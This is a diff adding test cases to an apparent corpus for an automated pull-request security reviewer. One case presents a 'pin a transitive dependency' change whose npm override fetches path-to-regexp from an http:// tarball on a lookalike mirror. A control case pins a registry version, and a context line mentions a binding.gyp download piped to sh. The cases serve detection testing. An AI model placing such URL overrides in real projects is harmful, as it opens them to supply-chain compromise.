@@ -226,6 +226,32 @@ const BUILD_AND_NAME_CASES: CorpusEntry[] = [
     expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior', 'npm-install-script'] },
   }),
   buildCase({
+    id: 'npm-override-swaps-transitive-for-url',
+    description: 'A "pin a transitive dependency" PR whose override takes path-to-regexp, which express depends on, from an http:// tarball (the PhantomRaven URL specs of 2025, in an override).',
+    number: 7208,
+    repo: 'storefront-api',
+    title: 'Pin path-to-regexp for the ReDoS advisory',
+    author: NEWCOMER,
+    files: [
+      { path: 'package.json', base: packageJson(WEBAPP), head: `${JSON.stringify({ ...JSON.parse(packageJson(WEBAPP)), overrides: { 'path-to-regexp': 'http://packages.npm-cdn-mirror.net/path-to-regexp-8.2.1.tgz' } }, null, 2)}\n` },
+    ],
+    checks: nodeCi(),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['url-dependency'] },
+  }),
+  buildCase({
+    id: 'npm-override-pins-registry-version',
+    description: 'The same pin done as maintainers do it: an override to a fixed registry version.',
+    number: 7209,
+    repo: 'storefront-api',
+    title: 'Pin path-to-regexp for the ReDoS advisory',
+    author: CONTRIBUTOR,
+    files: [
+      { path: 'package.json', base: packageJson(WEBAPP), head: `${JSON.stringify({ ...JSON.parse(packageJson(WEBAPP)), overrides: { 'path-to-regexp': '8.2.1' } }, null, 2)}\n` },
+    ],
+    checks: nodeCi(),
+    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
+  }),
+  buildCase({
     id: 'binding-gyp-pipes-download-to-shell',
     description: 'binding.gyp gains a command expansion that pipes a download to sh while node-gyp configures the addon.',
     number: 7208,
